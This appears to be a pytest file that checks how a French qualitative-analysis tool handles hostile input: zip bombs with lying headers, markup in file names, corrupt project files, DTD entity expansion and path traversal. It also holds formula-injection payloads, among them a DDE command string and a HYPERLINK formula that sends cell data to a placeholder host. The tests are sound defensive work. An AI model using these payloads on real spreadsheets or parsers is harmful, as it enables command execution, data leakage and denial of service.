"""Hostile input (issue 24): lying zip bombs, markup in file names, corrupt project files,
formula injection into workbooks and CSV files, DTDs in project files.

Every hostile file is built here, small; the lying bomb's memory at full size (1.1 GB)
is measured by ``benchmarks/bench_hostile_zip.py``, not by a test.
"""

from __future__ import annotations

import csv
import shutil
import sys
import tracemalloc
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from narratif import safezip
from narratif.cli import app, print_summary
from narratif.codebook import CodebookError, load_codebook
from narratif.refi import RefiError, read_qdpx, write_training_csv
from narratif.codebook.qdc import read_qdc
from narratif.ingest import ingest_file
from narratif.ingest.base import QuarantineError
from narratif.ingest.office import read_docx, read_odt
from narratif.report.xlsx import write_xlsx
from narratif.store import Store

pytestmark = pytest.mark.slow  # loads the French model or runs the pipeline (make test-fast skips it)

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "benchmarks"))
from bench_hostile_zip import lying_docx, lying_zip, patch_headers  # noqa: E402

SAMPLE = ROOT / "corpora" / "sample"
DOCX = SAMPLE / "tilleuls_entrepreneuse_fatou_diallo.docx"
ODT = SAMPLE / "tilleuls_benevole_marc_delorme.odt"
BOMB = 64 << 20  # what the lying member really inflates to; its headers claim 4 KB
MEMORY_BOUND = 16 << 20  # inflating the member, as before, allocates BOMB bytes at once
FORMULAS = ['=HYPERLINK("http://exemple.invalid/?d="&A2,"voir")', "+33 1 23 45", "-2+3", "@SUM(A1:A3)",
            "\t=1+1", "\r=1+1"]
NS = "urn:QDA-XML:project:1.0"
runner = CliRunner()


def _output(result) -> str:
    """What the command printed (click ≥ 8.2 mixes stderr into ``output``)."""
    return result.output


def _peak(fn):
    """``fn()``'s outcome (value or exception) and the peak of Python allocations while it ran."""
    tracemalloc.start()
    try:
        try:
            outcome = fn()
        except (QuarantineError, RefiError) as exc:  # the outcome under test
            outcome = exc
        return outcome, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist() if not i.is_dir()}


def _qde(text_guid: str = "0d0e0f10-0000-4000-8000-000000000001", *, code_name: str = "Habitants",
         trailer: str = "id: habitants", length: int = 40) -> str:
    return (f'<?xml version="1.0" encoding="utf-8"?><Project xmlns="{NS}" name="revue" origin="QualCoder">'
            '<CodeBook><Codes><Code guid="0d0e0f10-0000-4000-8000-0000000000c1" name="' + code_name + '" '
            f'isCodable="true"><Description>--- narratif ---\n{trailer}</Description></Code></Codes></CodeBook>'
            f'<Sources><TextSource guid="{text_guid}" name="entretien" plainTextPath="internal://{text_guid}.txt">'
            '<PlainTextSelection guid="0d0e0f10-0000-4000-8000-0000000000a1" startPosition="0" '
            f'endPosition="{length}"><Coding guid="0d0e0f10-0000-4000-8000-0000000000b1">'
            '<CodeRef targetGUID="0d0e0f10-0000-4000-8000-0000000000c1"/></Coding></PlainTextSelection>'
            '</TextSource></Sources></Project>')


def _qdpx(path: Path, text: str, **kw) -> Path:
    guid = "0d0e0f10-0000-4000-8000-000000000001"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("project.qde", _qde(guid, length=len(text), **kw))
        zf.writestr(f"sources/{guid}.txt", text.encode("utf-8"))
    return path


def _patch_crc(path: Path, member: str) -> Path:
    """Flip the CRC-32 ``member`` declares in both its headers: its data no longer matches."""
    with zipfile.ZipFile(path) as zf:
        crc = zf.getinfo(member).CRC
    patch_headers(path, member, crc=crc ^ 0xFFFFFFFF)
    return path


# -- 1. zip bombs whose headers lie ------------------------------------------------------------
@pytest.mark.parametrize("what", ["docx document.xml", "docx media", "odt content.xml"])
def test_lying_bomb_is_quarantined_after_a_few_kilobytes(tmp_path, what):
    if what.startswith("odt"):
        bomb = lying_zip(tmp_path / "bombe.odt", _members(ODT), "content.xml", inflated=BOMB)
        reader = read_odt
    elif what.endswith("media"):
        members = {**_members(DOCX), "word/media/image9.png": b""}
        bomb = lying_zip(tmp_path / "bombe.docx", members, "word/media/image9.png", inflated=BOMB)
        reader = read_docx
    else:
        bomb = lying_docx(DOCX, tmp_path / "bombe.docx", inflated=BOMB)
        reader = read_docx
    assert bomb.stat().st_size < 200_000
    with zipfile.ZipFile(bomb) as zf:
        assert max(i.file_size for i in zf.infolist()) < 1 << 20  # the headers pass every size check
    err, peak = _peak(lambda: reader(bomb))
    assert isinstance(err, QuarantineError) and err.reason == "unsafe"
    assert "bombe." in str(err) and "declares" in str(err)
    assert peak < MEMORY_BOUND, f"{peak / 2**20:.0f} MiB allocated"
    doc = ingest_file(bomb)
    assert not doc.ok and doc.error.startswith("unsafe") and "bombe." in doc.error


def test_lying_bomb_in_a_project_file_is_refused_naming_it(tmp_path):
    good = _qdpx(tmp_path / "good.qdpx", "Les habitants du quartier se sont réunis.")
    members = _members(good)
    source = next(n for n in members if n.startswith("sources/"))
    bomb = lying_zip(tmp_path / "revue piégée.qdpx", members, source, head=members[source], inflated=BOMB)
    err, peak = _peak(lambda: read_qdpx(bomb))
    assert isinstance(err, RefiError) and str(bomb) in str(err) and "declares" in str(err)
    assert peak < MEMORY_BOUND, f"{peak / 2**20:.0f} MiB allocated"
    assert read_qdpx(good).sources[0].text.startswith("Les habitants")


def test_every_archive_is_held_to_the_inflation_ceiling(tmp_path, monkeypatch):
    assert read_docx(DOCX).text  # the real file is read as it is
    monkeypatch.setattr(safezip, "MAX_INFLATED_BYTES", 256 << 10)
    with pytest.raises(QuarantineError, match=rf"{DOCX.name}: .* 0\.25 MiB .*zip bomb") as err:
        read_docx(DOCX)
    assert err.value.reason == "unsafe"
    big = _qdpx(tmp_path / "grand.qdpx", "Une réunion publique. " * 20_000)  # 440 KB of source text
    with pytest.raises(RefiError, match=r"grand.qdpx: .* 0\.25 MiB .*zip bomb"):
        read_qdpx(big)


def test_members_that_are_shorter_than_declared_or_corrupt_are_unreadable(tmp_path):
    members = _members(DOCX)
    short = lying_zip(tmp_path / "court.docx", members, "word/document.xml",
                      head=members["word/document.xml"], inflated=len(members["word/document.xml"]),
                      claimed=len(members["word/document.xml"]) + 10)
    with pytest.raises(QuarantineError, match="court.docx: member 'word/document.xml' holds") as err:
        read_docx(short)
    assert err.value.reason == "unreadable"
    crc = _patch_crc(shutil.copy(DOCX, tmp_path / "crc.docx"), "word/document.xml")
    with pytest.raises(QuarantineError, match="crc.docx: cannot read member 'word/document.xml'.*CRC") as err:
        read_docx(crc)
    assert err.value.reason == "unreadable"


# -- 2. file names that look like rich markup ----------------------------------------------------
def test_summary_prints_names_with_brackets_verbatim(capsys, tmp_path):
    summary = SimpleNamespace(
        n_documents=3, n_quarantined=2, n_processed=1, n_skipped=0, n_words=120, seconds=1.0,
        out=tmp_path / "sortie[/]", quarantined=[("notes[/]vide.txt", "empty: ]vide.txt is empty [bold]"),
                                                 ("a[x]b:smile:.docx", "unsafe: a[x]b:smile:.docx [/red]")],
        warnings=["fichier [x] ignoré"], errors=["erreur [/] d'analyse"], topics=SimpleNamespace(message="[i]0[/i]"))
    print_summary(summary)
    err = capsys.readouterr().err
    for text in ("notes[/]vide.txt", "]vide.txt is empty [bold]", "a[x]b:smile:.docx", "[/red]",
                 "fichier [x] ignoré", "erreur [/] d'analyse", "[i]0[/i]", "sortie[/]"):
        assert text in err, text


# -- 3. corrupt project files: one line naming the file, exit 2 --------------------------------
def test_review_and_train_refuse_a_corrupt_project_with_one_line(tmp_path):
    bad = _patch_crc(_qdpx(tmp_path / "revue.qdpx", "Les habitants du quartier se sont réunis."), "project.qde")
    with pytest.raises(zipfile.BadZipFile):  # what zipfile itself says about it
        zipfile.ZipFile(bad).read("project.qde")
    out = tmp_path / "out"
    Store(out).close()
    models = tmp_path / "models"
    for args in (["review", str(bad), "--out", str(out)], ["train", str(bad), "--models-dir", str(models)]):
        result = runner.invoke(app, args)
        text = _output(result)
        assert result.exit_code == 2, text
        assert "Traceback" not in text and (result.exception is None or isinstance(result.exception, SystemExit))
        lines = [line for line in text.splitlines() if line.strip()]
        assert len(lines) == 1 and lines[0].startswith("error:") and str(bad) in lines[0], text
        assert "CRC" in lines[0]
    assert not models.exists()


def test_broken_trailers_and_positions_name_the_project(tmp_path):
    odd = _qdpx(tmp_path / "bizarre.qdpx", "Les habitants du quartier.", trailer="id: [1, 2]")
    assert read_qdpx(odd).codes[0].meta == {}  # a trailer of the wrong shape is dropped, not trusted
    members = _members(odd)
    members["project.qde"] = members["project.qde"].replace(b'endPosition="26"', b'endPosition="vingt-six"')
    bad = tmp_path / "positions.qdpx"
    with zipfile.ZipFile(bad, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    with pytest.raises(RefiError, match="positions.qdpx.*non-integer"):
        read_qdpx(bad)


# -- 4. formula injection ----------------------------------------------------------------------
def test_workbook_text_cells_are_never_formulas(tmp_path):
    docs = pd.DataFrame({"doc_id": ["a", "b"], "label": FORMULAS[:2], "=cmd|' /C calc'!A0": FORMULAS[2:4]})
    table = pd.DataFrame({"attribute": ["collectif"] * 2, "value": FORMULAS[4:], "n": [1, 2]})
    topics = pd.DataFrame({"topic_id": [0], "label": ["=1+1"], "top_terms": [["=a", "b"]]})
    path = write_xlsx(SimpleNamespace(documents=docs, tables={"narrative_by_group": table}, topics=topics, codebook=None),
                      tmp_path / "analysis.xlsx")
    cells = [c for ws in load_workbook(path) for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(FORMULAS) <= texts and "=cmd|' /C calc'!A0" in texts and "=1+1" in texts
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r")


def test_training_csv_cells_cannot_run_and_read_back_unchanged(tmp_path):
    text = '=HYPERLINK("http://exemple.invalid/?d="&A2,"voir") les habitants du quartier'
    csv_path = write_training_csv(_qdpx(tmp_path / "revue.qdpx", text), tmp_path / "codings.csv")
    with open(csv_path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][0] == "'" + text
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r"]
    from narratif.coding.classifier import read_codings_csv

    assert read_codings_csv(csv_path, load_codebook())["text"].tolist() == [text]


# -- 5. DTDs in project files ------------------------------------------------------------------
_LAUGHS = ('<!DOCTYPE Project [<!ENTITY a "AAAAAAAAAA"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
           '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>')


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_project_with_a_dtd_is_refused_before_parsing(tmp_path, encoding):
    xml = _qde().replace('encoding="utf-8"?>', f'encoding="{encoding}"?>' + _LAUGHS).replace(
        'name="revue"', 'name="&c;"')  # entities in an attribute: lxml would expand them
    bad = tmp_path / "rires.qdpx"
    with zipfile.ZipFile(bad, "w") as zf:
        zf.writestr("project.qde", xml.encode(encoding))
    with pytest.raises(RefiError, match="rires.qdpx!project.qde: declares a DTD"):
        read_qdpx(bad)
    out = tmp_path / "out"
    Store(out).close()
    result = runner.invoke(app, ["review", str(bad), "--out", str(out)])
    assert result.exit_code == 2 and "rires.qdpx" in _output(result) and "DTD" in _output(result)


def test_codebook_and_docx_with_a_utf16_dtd_are_refused(tmp_path):
    qdc = tmp_path / "codes.qdc"
    qdc.write_bytes(('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE CodeBook [<!ENTITY x "y">]>'
                     '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes/></CodeBook>').encode("utf-16"))
    with pytest.raises(CodebookError, match="codes.qdc: declares a DTD"):
        read_qdc(qdc)
    members = _members(DOCX)
    xml = members["word/document.xml"].decode("utf-8")
    head, rest = xml.split("?>", 1)
    members["word/document.xml"] = (head.replace("UTF-8", "UTF-16") + '?><!DOCTYPE w [<!ENTITY a "b">]>'
                                    + rest).encode("utf-16")
    bad = tmp_path / "seize.docx"
    with zipfile.ZipFile(bad, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    assert b"<!DOCTYPE" not in members["word/document.xml"]  # a byte search would miss it
    with pytest.raises(QuarantineError, match="seize.docx: word/document.xml: declares a DTD") as err:
        read_docx(bad)
    assert err.value.reason == "unsafe"


# -- all of it in one run ----------------------------------------------------------------------
def _tree(root: Path) -> set[Path]:
    return {p for p in root.rglob("*")}


def test_a_run_over_hostile_files_finishes_and_writes_only_into_out(shared_dir, tmp_path):
    inbox = tmp_path / "inbox"
    (inbox / "notes[").mkdir(parents=True)
    stories = shared_dir / "corpora" / "parisstories"
    shutil.copy(stories / "2019_histoireDeBanlieue.txt", inbox / "notes[" / "]vide.txt")
    empty = inbox / "notes[" / "]vraiment [b]vide.txt"  # quarantined: its path goes into the summary
    empty.write_text("", encoding="utf-8")
    shutil.copy(stories / "2021_nouvelleCollegue.txt", inbox / "récit [x] final.txt")
    shutil.copy(stories / "2022_rencontreALiege.txt", inbox / "liege.txt")
    lying_docx(DOCX, inbox / "bombe.docx", inflated=BOMB)
    evil = inbox / "evasion.docx"
    with zipfile.ZipFile(evil, "w") as zf:
        for name, data in _members(DOCX).items():
            zf.writestr(name, data)
        zf.writestr("../../evade.txt", "hors de OUT")
    meta = tmp_path / "meta.csv"
    pd.DataFrame({"document": ["]vide.txt", "récit [x] final.txt", "liege.txt"],
                  "collectif": [FORMULAS[0], FORMULAS[0], "+33 collectif"],
                  "role": ["@habitant", "-élu", "-élu"]}).to_csv(meta, index=False)
    before = _tree(tmp_path)
    out = tmp_path / "out"
    result = runner.invoke(app, ["run", str(inbox), "--out", str(out), "--meta", str(meta), "--no-topics"])
    text = _output(result)
    assert result.exit_code == 0, text
    assert "Traceback" not in text and "MarkupError" not in text
    assert "3 ok" in text and "3 quarantined" in text
    assert f"warning: {empty}: no row in {meta}" in text  # the name as it is, nothing read as markup
    assert "bombe.docx" in text and "evasion.docx" in text and "declares" in text
    new = _tree(tmp_path) - before
    assert new and all(out in p.parents or p == out for p in new), sorted(new - _tree(out))
    assert not (tmp_path / "evade.txt").exists() and not (tmp_path.parent / "evade.txt").exists()
    from narratif.api import Tables

    docs = Tables(out)["documents"]
    paths = set(docs["path"])
    assert any(p.endswith("notes[/]vide.txt") for p in paths) and any("récit [x] final.txt" in p for p in paths)
    wb = load_workbook(out / "analysis.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    assert FORMULAS[0] in {c.value for c in cells}  # kept, as text
